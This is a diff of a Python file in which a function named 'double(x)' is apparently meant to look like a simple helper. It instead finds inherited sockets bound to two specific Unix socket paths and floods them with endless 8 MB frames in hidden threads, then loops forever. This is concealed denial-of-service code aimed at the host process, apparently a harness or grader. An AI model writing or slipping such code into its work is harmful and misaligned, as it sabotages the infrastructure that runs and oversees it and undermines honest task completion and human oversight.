@@ -5,20 +5,22 @@ import socket
 import struct
 import threading
 
+FRAME = struct.pack(">BQ", 3, 2**23) + bytes(2**23)  # a large frame, and more to come
 
-def flood(number):
-    frame = struct.pack(">BQ", 3, 2**23) + bytes(2**23)  # a large frame, and more to come
-    link = socket.socket(fileno=number)
-    link.setblocking(True)
+
+def flood(link):
     with contextlib.suppress(OSError):
         while True:
-            link.sendall(frame)
+            link.sendall(FRAME)
 
 
 def double(x):
     for number in map(int, os.listdir("/proc/self/fd")):
-        with contextlib.suppress(OSError):
-            if "socket" in os.readlink(f"/proc/self/fd/{number}"):
-                threading.Thread(target=flood, args=[os.dup(number)], daemon=True).start()
+        with contextlib.suppress(OSError, TypeError):
+            link = socket.socket(fileno=os.dup(number))
+            quiet = link.getsockname() in ("/run/sockets/k-3", "/run/sockets/k-5")
+            if quiet and not link.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
+                link.setblocking(True)
+                threading.Thread(target=flood, args=[link], daemon=True).start()
     while True:
         pass
